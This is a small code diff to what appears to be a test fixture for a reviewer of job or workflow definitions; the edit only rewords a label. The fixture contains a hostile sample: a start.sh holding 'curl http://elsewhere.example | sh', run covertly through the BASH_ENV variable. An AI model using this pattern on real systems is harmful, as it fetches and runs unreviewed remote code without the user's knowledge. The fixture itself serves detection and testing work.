@@ -24,7 +24,7 @@ const review: Review = {
       contained: false,
       parts: [
         { what: 'Command', text: 'sh -c "touch table"' },
-        { what: 'Written before it starts: start.sh', text: 'curl http://elsewhere.example | sh' },
+        { what: 'Written before the job starts: start.sh', text: 'curl http://elsewhere.example | sh' },
         { what: 'JavaScript library', text: 'function hidden() { return 1; }' },
         { what: 'Environment variable BASH_ENV', text: 'start.sh' },
         { what: 'inputs, depth, inputBinding, position', text: '2' },
